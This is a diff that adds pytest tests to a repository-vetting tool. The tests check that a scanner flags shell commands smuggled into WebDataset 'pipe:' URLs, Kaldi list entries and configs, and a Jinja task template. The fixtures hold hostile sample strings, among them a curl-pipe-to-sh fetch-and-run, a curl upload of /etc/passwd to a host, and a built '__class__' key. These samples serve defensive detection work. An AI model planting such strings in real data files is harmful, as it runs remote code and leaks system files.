@@ -118,3 +118,115 @@ def test_a_chain_of_sets_is_judged_in_linear_time() -> None:
     why = chattemplates.judge(chain + f"{{{{ messages[a{n - 1}] }}}}")
     assert why is not None and "computed key" in why
     assert time.monotonic() - start < 15
+
+
+def test_a_task_template_keyed_by_its_data_passes_and_a_built_key_does_not(
+    make_repo: Callable[..., Path],
+) -> None:
+    # lm-evaluation-harness task YAMLs render Jinja with the dataset's rows (no sandbox)
+    task = (
+        'doc_to_text: "{{question}} {% for c in choices %}{{ c }}{% endfor %}"\n'
+        "doc_to_target: \"{{choices[label]}} {{ doc['answers'][gold] }}\"\n"
+        "html: \"{% for id in ids %}{% for m in models_by_id[id] %}{{ m['x'] }}"
+        '{% endfor %}{% endfor %}"\n'
+    )
+    built = "doc_to_text: \"{% set k = '_' ~ '_class' ~ '__' %}{{ question[k] }}\"\n"
+    found = _risks(make_repo, {"tasks/a.yaml": task, "tasks/b.yaml": built})
+    assert [r.path for r in found] == ["tasks/b.yaml"], found
+
+
+# -- F13, F14: data strings a library hands to a shell (forkvet/data/shell_sinks.json) -----------
+def _shell(make_repo: Callable[..., Path], files: dict[str, str | bytes]) -> list[Risk]:
+    from forkvet.vet import shellsinks
+
+    snap = snapshot.load(make_repo({**README, **files}, use_git=False))
+    return shellsinks.shell_risks(snap, time.monotonic() + 60)
+
+
+_BAD_URLS = [
+    "pipe:touch /tmp/m; cat /dev/null",
+    "s3://b/x.tar::pipe:sh -c id",
+    "pipe:curl -s https://x/a.tar | sh",
+    "pipe:curl -sLo /tmp/x https://x/a.tar",
+    "pipe:tools/fetch.sh a.tar",
+    "pipe:cat $(id)",
+]
+
+
+@pytest.mark.parametrize("url", _BAD_URLS)
+def test_a_webdataset_pipe_url_that_runs_more_than_a_download_is_an_error(
+    make_repo: Callable[..., Path], url: str
+) -> None:
+    files = {
+        "configs/data.yaml": f"data:\n  train_urls: {json.dumps(url)}\n  batch_size: 8\n",
+        "configs/data.json": json.dumps({"urls": [url]}),
+        "lists/train.txt": url + "\n",
+        "train.py": f"import webdataset as wds\nds = wds.WebDataset({url!r})\n",
+    }
+    found = _shell(make_repo, files)
+    assert sorted(r.path for r in found) == sorted(files), found
+    assert all(r.kind == "shell-in-data" and r.severity == "error" for r in found)
+
+
+def test_an_escape_in_a_yaml_string_is_judged_as_the_loader_reads_it(
+    make_repo: Callable[..., Path],
+) -> None:
+    doc = 'urls: "pipe:curl -s https://x/a.tar\\x3b touch /tmp/m"\n'  # \x3b is `;`
+    found = _shell(make_repo, {"data.yaml": doc, "raw.cfg": doc})
+    assert sorted(r.path for r in found) == ["data.yaml", "raw.cfg"], found
+
+
+def test_downloads_and_decoders_to_stdout_pass(make_repo: Callable[..., Path]) -> None:
+    files = {
+        "configs/data.yaml": (
+            "train: 'pipe:curl -L -s https://h/shards/{00000..00099}.tar || true'\n"
+            "val: pipe:aws s3 cp s3://bucket/val-{000..009}.tar -\n"
+            "test: 'pipe:wget -qO- https://h/t.tar'\n"
+        ),
+        "data/train/wav.scp": (
+            "utt1 sox /corpus/a.wav -t wav - remix 1 |\n"
+            "utt2 /opt/kaldi/tools/sph2pipe -f wav -p -c 1 /corpus/b.sph |\n"
+            "utt3 flac -c -d -s /corpus/c.flac |\nutt4 /corpus/d.wav\n"
+        ),
+        "conf/feats.yaml": "wav: 'scp:data/train/wav.scp'\nout: 'ark:-'\n",
+        "README.md": "| a | b |\n|---|---|\n| pipe:sh -c id | x |\n",
+    }
+    assert _shell(make_repo, files) == []
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        "utt1 touch /tmp/m; cat /dev/null |",
+        "utt1 bash -c 'id' |",
+        "utt1 curl -s http://x/a.wav -T /etc/passwd |",
+        "utt1 sox a.wav -t wav - | sh |",
+    ],
+)
+def test_a_kaldi_list_entry_piping_a_command_is_judged(
+    make_repo: Callable[..., Path], entry: str
+) -> None:
+    found = _shell(make_repo, {"data/train/wav.scp": f"utt0 /corpus/a.wav\n{entry}\n"})
+    assert [(r.path, r.line) for r in found] == [("data/train/wav.scp", 2)], found
+
+
+def test_a_kaldi_specifier_in_a_config_is_judged(make_repo: Callable[..., Path]) -> None:
+    doc = {"feats": "ark:evil-feats scp:x ark:- |", "out": "ark:| gzip -c > /tmp/x"}
+    found = _shell(make_repo, {"conf/kaldi.json": json.dumps(doc)})
+    assert len(found) == 2 and all(r.path == "conf/kaldi.json" for r in found), found
+
+
+def test_shell_strings_are_judged_in_the_vet(vet_repo: Callable[..., object]) -> None:
+    report = vet_repo({**README, "configs/data.yaml": "urls: 'pipe:sh -c id'\n"})
+    found = [r for r in report.risks if r.kind == "shell-in-data"]  # type: ignore[attr-defined]
+    assert [r.path for r in found] == ["configs/data.yaml"], found
+
+
+def test_shell_strings_past_the_budget_are_not_verified(
+    make_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from forkvet.vet import shellsinks
+
+    monkeypatch.setattr(shellsinks, "_SECONDS", 0.0)
+    found = _shell(make_repo, {"configs/data.yaml": "urls: 'pipe:curl -s https://x/a.tar'\n"})
+    assert found and "NOT verified" in found[-1].message, found
